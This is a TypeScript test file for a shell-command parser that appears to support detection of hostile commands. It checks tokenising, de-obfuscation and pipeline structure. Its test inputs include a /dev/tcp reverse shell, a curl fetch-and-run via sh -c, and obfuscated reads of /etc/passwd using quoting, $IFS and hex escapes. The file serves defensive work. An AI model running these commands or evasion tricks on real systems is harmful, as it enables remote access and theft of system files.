import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readShell } from '../../../src/domain/shell/shell-reader.ts';

const wordsOf = (text: string): readonly (readonly string[])[] =>
  readShell(text).pipelines.flatMap(({ commands }) => commands.map(({ words }) => words.map(({ value }) => value)));

describe('words', () => {
  test.each([
    ['ls -la /tmp', [['ls', '-la', '/tmp']]],
    [`echo 'a b' "c d" e\\ f`, [['echo', 'a b', 'c d', 'e f']]],
    [`c''at /etc/pa"ss"wd`, [['cat', '/etc/passwd']]],
    [`$'\\x63\\x61t' x`, [['cat', 'x']]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text
    ['cat${IFS}/etc/hosts', [['cat', '/etc/hosts']]],
    ['{cat,/etc/hosts}', [['cat', '/etc/hosts']]],
    ['echo /var/log/{w,b}tmp', [['echo', '/var/log/wtmp', '/var/log/btmp']]],
    ['a=ca; b=t; $a$b x', [[], [], ['cat', 'x']]],
    ['x="ls -l"; $x', [[], ['ls', '-l']]],
    ['echo $HOME/.ssh $unknown', [['echo', '~/.ssh', '$unknown']]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text
    ['echo ${x:-y} ${PATH:0:1}etc', [['echo', 'y', '/etc']]],
    ['c$@at x', [['cat', 'x']]],
    ['ls # a comment; rm x', [['ls']]],
    ['echo a#b', [['echo', 'a#b']]],
  ])('%s', (text, words) => {
    expect(wordsOf(text)).toEqual(words);
  });
});

describe('structure', () => {
  test.each([
    ['a | b | c', [3]],
    ['a; b && c || d & e', [1, 1, 1, 1, 1]],
    ['(a; b) | c', [1, 2]],
    ['while read l; do x; done | y', [1, 2]],
    ['if a; then b; else c; fi', [1, 1, 1]],
    ['a\nb\\\n c', [1, 1]],
  ])('%s has pipelines of %j commands', (text, sizes) => {
    expect(readShell(text).pipelines.map(({ commands }) => commands.length)).toEqual(sizes);
  });

  test('redirections keep descriptor, direction and target, and are not arguments', () => {
    const command = readShell('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 2>>log').pipelines[0]?.commands[0];
    expect(command?.words.map(({ value }) => value)).toEqual(['bash', '-i']);
    expect(command?.redirects).toEqual([
      { fd: undefined, op: '>&', target: '/dev/tcp/192.0.2.1/4444' },
      { fd: 0, op: '>&', target: '1' },
      { fd: 2, op: '>>', target: 'log' },
    ]);
  });

  test('here-documents and here-strings are the input of their command', () => {
    expect(readShell('sh <<EOF\nid\nuname\nEOF\nls').pipelines[0]?.commands[0]?.input).toBe('id\nuname\n');
    expect(readShell('sh <<< "id -u"').pipelines[0]?.commands[0]?.input).toBe('id -u');
  });

  test('commands in a loop are marked, those after it are not', () => {
    const { pipelines } = readShell('for i in 1 2; do ping $i; done; ls');
    const loops = pipelines.flatMap(({ commands }) =>
      commands.filter(({ words }) => ['ping', 'ls'].includes(words[0]?.value ?? '')).map(({ isInLoop }) => isInLoop),
    );
    expect(loops).toEqual([true, false]);
  });

  test('substitutions are read as commands of their own and name what feeds the word', () => {
    const { pipelines } = readShell('sh -c "$(curl -s http://192.0.2.1/x)"');
    expect(pipelines.map(({ via }) => via)).toEqual(['substitution', 'direct']);
    expect(pipelines[1]?.commands[0]?.words[2]?.feeds).toEqual(['curl']);
  });

  test('a substitution whose output is known stands for it', () => {
    expect(wordsOf('x=$(echo aWQ= | base64 -d); $x').at(-1)).toEqual(['id']);
    expect(wordsOf('`printf "\\\\x69\\\\x64"`').at(-1)).toEqual(['id']);
  });
});

describe('whatever comes', () => {
  const shellish = fc
    .array(
      fc.constantFrom(
        '$(',
        '`',
        '"',
        "'",
        '\\',
        '<<',
        '<(',
        '{a,b}',
        '${x',
        '$((',
        ')',
        '|',
        ';',
        '&',
        '>',
        'a=',
        '$a',
        'sh',
        '-c',
        ' ',
        '\n',
        'do',
        'EOF',
        '#',
      ),
      {
        maxLength: 200,
      },
    )
    .map((parts) => parts.join(''));

  test('it never throws and what it gives is bounded', () => {
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ unit: 'binary', maxLength: 400 })), (text) => {
        const { pipelines } = readShell(text);
        const words = pipelines.flatMap(({ commands }) => commands.flatMap((command) => command.words));
        expect(pipelines.length).toBeLessThanOrEqual(600);
        expect(words.every(({ value }) => value.length <= 4096 * 2)).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  test('a plain command comes back word by word', () => {
    const word = fc
      .stringMatching(/^[a-zA-Z0-9_./:@%+-]{1,20}$/)
      .filter((text) => !/^(?:if|then|else|elif|fi|do|done|while|until|esac|time|coproc)$/.test(text));
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 20 }), (words) => {
        expect(wordsOf(words.join(' '))).toEqual([words]);
      }),
    );
  });

  test('quoting a word keeps it in one piece', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 60 }).filter((text) => !text.includes("'")),
        (text) => {
          expect(wordsOf(`echo '${text}'`)).toEqual([['echo', text]]);
        },
      ),
    );
  });

  test.each([
    ['nested substitutions', '$('.repeat(4000)],
    ['backticks in backticks', '`\\'.repeat(4000)],
    ['quotes', `"'`.repeat(4000)],
    ['a variable that doubles', `a=xxxxxxxxxxxxxxxx;${'a=$a$a;'.repeat(1000)}echo $a`],
    ['redirections', '>'.repeat(8000)],
    ['braces', '{a,'.repeat(2600)],
    ['here-documents', '<<A\n'.repeat(2000)],
  ])('8 KiB of %s take no more than a moment', (_name, text) => {
    const started = performance.now();
    readShell(text.slice(0, 8192));
    expect(performance.now() - started).toBeLessThan(250);
  });
});
